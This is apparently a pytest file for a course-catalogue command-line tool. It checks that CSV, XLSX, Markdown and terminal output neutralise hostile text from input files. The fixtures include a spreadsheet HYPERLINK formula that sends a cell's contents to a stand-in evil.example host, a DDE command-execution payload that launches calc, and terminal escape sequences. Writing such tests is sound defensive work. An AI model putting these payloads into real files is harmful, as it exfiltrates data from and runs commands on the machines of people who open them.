"""Text from input files is neutralised in CSV/XLSX cells, escaped in Markdown and
cleaned for the terminal; JSON keeps it as written (issue 11, point 3)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import yaml
from click.testing import CliRunner
from conftest import DATA

from curriculum.cli import main
from curriculum.io.cells import csv_cell, markdown_cell, terminal_text

TINY = DATA / "tiny"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_CODE = "@SUM(1+1)"
OSC = "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x1b[31mred\x1b[0m"


def hostile_catalogue(tmp_path, title: str = EVIL_TITLE, code: str = EVIL_CODE):
    data = yaml.safe_load((TINY / "courses.yaml").read_text(encoding="utf-8"))
    data["provider"] = "+cmd|' /C calc'!A0"
    for course in data["courses"]:
        if course["code"] == "A1":
            course["code"], course["title"] = code, title
    path = tmp_path / "courses.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return ["--standards", str(TINY / "standard.yaml"), "--catalogue", str(path)]


def run(*args: str):
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result


def test_csv_cell_rules():
    for text in ("=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    for text in ("-3", "+1.5", "-", "1e5", "ok", "'=x"):
        assert csv_cell(text) == text
    assert csv_cell(-3) == -3


def test_plan_csv_neutralises_and_json_keeps(tmp_path):
    data = hostile_catalogue(tmp_path)
    text = run("plan", "TINY-001v2", *data, "--format", "csv", "--no-bom").stdout
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + EVIL_CODE in cells and "'" + EVIL_TITLE in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    plan = json.loads(run("plan", "TINY-001v2", *data, "--format", "json").stdout)
    assert {c["code"]: c["title"] for c in plan["courses"]}[EVIL_CODE] == EVIL_TITLE


def test_courses_and_frontier_csv_neutralise(tmp_path):
    data = hostile_catalogue(tmp_path)
    for args in (("courses", "list"), ("frontier", "TINY-001v2")):
        text = run(*args, *data, "--format", "csv").stdout
        cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), args


def test_team_xlsx_has_no_formula(tmp_path):
    data = hostile_catalogue(tmp_path)
    team = tmp_path / "team.csv"
    team.write_text("id,name,department,standard\nm1,=cmd,@dept,TINY-001v2\n", encoding="utf-8")
    out = tmp_path / "team.xlsx"
    run("team", str(team), *data, "--format", "xlsx", "-o", str(out))
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(book.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    import openpyxl

    values = {
        c.value
        for ws in openpyxl.load_workbook(out).worksheets
        for row in ws.iter_rows()
        for c in row
    }
    assert "=cmd" in values  # kept as written, stored as text


def test_markdown_escapes_pipes_and_line_breaks(tmp_path):
    assert markdown_cell("a|b\nc") == "a\\|b c"
    data = hostile_catalogue(tmp_path, title="a | b\nc")
    text = run("plan", "TINY-001v2", *data, "--format", "markdown").stdout
    assert "a \\| b c" in text


def test_terminal_output_strips_escapes(tmp_path):
    assert terminal_text(OSC) == "linkred"
    assert terminal_text("a\tb\r\nc") == "a\tb\r\nc"
    data = hostile_catalogue(tmp_path, title=OSC)
    text = run("plan", "TINY-001v2", *data).stdout
    assert "\x1b" not in text and "linkred" in text


def test_error_messages_strip_escapes(tmp_path):
    bad = tmp_path / "c.yaml"
    bad.write_text('courses:\n  - {code: "X\\e[2J", title: t, hours: 1}\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", "--catalogue", str(bad)])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr
